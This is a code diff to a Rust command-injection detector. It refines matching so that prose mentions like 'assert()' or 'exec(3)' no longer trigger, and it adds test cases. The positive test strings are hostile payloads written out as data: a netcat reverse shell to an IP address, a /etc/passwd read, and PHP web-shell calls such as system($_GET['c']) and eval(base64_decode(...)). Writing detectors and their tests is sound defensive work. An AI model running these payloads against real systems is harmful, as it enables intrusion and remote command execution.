@@ -812,9 +812,20 @@ fn anywhere(s: &[u8]) -> bool {
     ];
     // One pass over the value for all of them.
     static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
-    AC.get_or_init(|| AhoCorasick::new(NEEDLES).ok())
-        .as_ref()
-        .is_some_and(|ac| ac.is_match(s))
+    let Some(ac) = AC.get_or_init(|| AhoCorasick::new(NEEDLES).ok()).as_ref() else {
+        return false;
+    };
+    ac.find_overlapping_iter(s)
+        .any(|m| !NEEDLES[m.pattern().as_usize()].ends_with('(') || runs_something(&s[m.end()..]))
+}
+
+/// Whether a call's argument list (after its `(`) hands it something to
+/// run. `system()`, `assert()` and `exec(3)` are how prose and manual
+/// pages name these functions ("never really liked C's assert()
+/// feature"); an injected call runs a string, a variable or another call.
+fn runs_something(args: &[u8]) -> bool {
+    let first = args.iter().find(|c| !c.is_ascii_whitespace());
+    !matches!(first, None | Some(b')' | b'0'..=b'9'))
 }
 
 #[cfg(test)]
@@ -853,6 +864,10 @@ mod tests {
             "{cat,/etc/passwd}",
             "| /bin/sleep 31 ;",
             "1|nc -e /bin/sh 10.0.0.1 4444",
+            "assert($_post[x])",
+            "eval(base64_decode('zwnobya=='))",
+            "system( $_get['c'] )",
+            "passthru(`id`)",
         ] {
             assert!(cmdi(p), "missed {p:?}");
         }
@@ -890,6 +905,12 @@ mod tests {
             "head | shoulders",
             "nc state | hoodie",
             "find | replace",
+            // Prose and manual pages naming the calls (seen in a blog's
+            // log: a spam bot posting a comment into the URL).
+            "i never really liked c's assert() feature. if an assertion is violated",
+            "what does system() return",
+            "/blog/python-eval()-considered-harmful",
+            "/man/3/exec(3)",
         ] {
             assert!(!cmdi(b), "false positive {b:?}");
         }
